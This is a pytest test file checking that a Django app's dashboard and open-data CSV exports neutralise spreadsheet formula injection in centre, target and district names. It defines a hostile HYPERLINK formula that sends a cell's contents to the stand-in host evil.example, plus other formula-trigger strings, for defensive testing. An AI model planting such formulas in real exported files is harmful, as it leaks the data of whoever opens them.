"""Formula injection (issue 13, item 2) in the dashboard and open-data CSVs: names the Dinas
types (centres, targets) or that come from reference data reach the file as inert text;
counts stay numbers."""

import csv
import io

import pytest

from facilities.models import Center, Kecamatan
from reports import services
from reports.models import Target

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&C2,"Klik")'
HOSTILE = [LINK, "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_live_cell(rows: list[list[str]]) -> None:
    assert not [value for row in rows for value in row if value and value[0] in "=+@\t\r"]


@pytest.fixture
def hostile_snapshot(people):
    centres = list(Center.objects.filter(kecamatan__kota_id="31.71").order_by("kecamatan_id")[: len(HOSTILE)])
    for centre, name in zip(centres, HOSTILE, strict=True):
        Center.objects.filter(pk=centre.pk).update(name=name)
    target = Target.objects.get()
    Target.objects.filter(pk=target.pk).update(name=LINK)
    Kecamatan.objects.filter(code="31.71.06").update(name="@SUM(1)")
    for _ in range(6):
        people.add("31.71.06")
    return services.progress_snapshot_create()


def test_dashboard_csvs_write_names_as_inert_text(client, olga, hostile_snapshot):
    client.force_login(olga)
    centres = _rows(client.get("/dashboard/centres.csv"))
    names = [row[0] for row in centres[1:]]
    for name in HOSTILE:
        assert "'" + name in names
    _no_live_cell(centres)
    targets = _rows(client.get("/dashboard/targets.csv"))
    assert targets[1][0] == "'" + LINK
    assert targets[1][2] == "200000"  # a number stays a number
    _no_live_cell(targets)
    kecamatan = {row[0]: row for row in _rows(client.get("/dashboard/kecamatan.csv"))}
    assert kecamatan["31.71.06"][1] == "'@SUM(1)"
    assert kecamatan["31.71.06"][3] == "6"


def test_open_data_csv_writes_names_as_inert_text(client, hostile_snapshot):
    rows = _rows(client.get("/open-data/kecamatan.csv"))
    menteng = next(row for row in rows if row[0] == "31.71.06")
    assert menteng[1:3] == ["'@SUM(1)", "Kota Administrasi Jakarta Pusat"]
    _no_live_cell(rows)


def test_negative_numbers_stay_numbers_and_negative_text_is_neutralised():
    from types import SimpleNamespace

    from reports.views import _csv_response  # what every dashboard and open-data CSV goes through

    table = SimpleNamespace(headers=["Kecamatan", "Change"], rows=[["-1", -3], ["Gambir", -2.5], ["@x", None]])
    response = _csv_response(table, "change.csv")
    assert _rows(response) == [["Kecamatan", "Change"], ["'-1", "-3"], ["Gambir", "-2.5"], ["'@x", ""]]
